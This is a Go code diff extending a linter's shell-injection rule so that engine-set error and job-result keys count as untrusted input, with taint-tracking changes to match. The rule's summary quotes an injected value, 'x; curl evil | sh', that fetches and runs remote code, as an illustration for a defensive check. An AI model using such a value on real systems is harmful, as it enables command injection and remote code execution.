@@ -10,7 +10,7 @@ import (
 )
 
 var ruleShellInjection = &Rule{ID: "shell-injection", Severity: diag.Warning, LintOnly: true,
-	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, or a world key bound from a host or agent call or set from such a value): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). Templates in env:, stdin: and cwd: are not checked",
+	Summary: "a host.run in shell mode (no args:, or shell: true) whose cmd: or args: holds a {{ }} template reading a value a user, a model or another program controls (slots.*, event.*, inbox, result.*, world.last_error, world.host_error, world.last_job_result, or a world key bound from a host or agent call or set from such a value): bash -c parses that value as shell, so a value like `x; curl evil | sh` runs. Pass it through env: and quote the variable in the command, or run in argv mode (args: without shell: true). Templates in env:, stdin: and cwd: are not checked",
 	Example: "- invoke: host.run\n  with: {cmd: \"echo {{ slots.text }}\"}"}
 
 // checkShellInjection warns at each untrusted read inside the line a
@@ -151,6 +151,14 @@ func (tw taintedWorld) lookup(key string) (taint, bool) {
 	}
 }
 
+// engineTainted are the world keys the engine sets from a call's answer
+// (story-runtime §1.1; pkg/engine setError and the job's on_complete).
+var engineTainted = map[string]string{
+	"last_error":      "set by the engine to a failed call's error text",
+	"host_error":      "set by the engine to a failed call's error",
+	"last_job_result": "set by the engine to a background job's result",
+}
+
 // taintWrite is one set:, world_in: or exit set: of a key with the
 // template reads of its value.
 type taintWrite struct {
@@ -163,8 +171,9 @@ type taintWrite struct {
 // controls (a bool or an int).
 var runScalarData = map[string]bool{"exit_code": true, "ok": true, "timed_out": true, "stdout_truncated": true}
 
-// treeTaint works out the untrusted world keys of st's import tree: every
-// bind: target of a call, then, to a fixed point, every key a set:,
+// treeTaint works out the untrusted world keys of st's import tree: the
+// keys the engine sets from a call's answer, every bind: target of a call,
+// then, to a fixed point, every key a set:,
 // world_in: or exit set: writes from an untrusted read.
 func treeTaint(st *story.Story) taintedWorld {
 	top := st
@@ -172,6 +181,9 @@ func treeTaint(st *story.Story) taintedWorld {
 		top = top.Importer()
 	}
 	tw := taintedWorld{}
+	for k, why := range engineTainted {
+		tw[k] = taint{why: why}
+	}
 	var writes []taintWrite
 	write := func(key string, v any, p story.Pos) {
 		var reads []tplRead
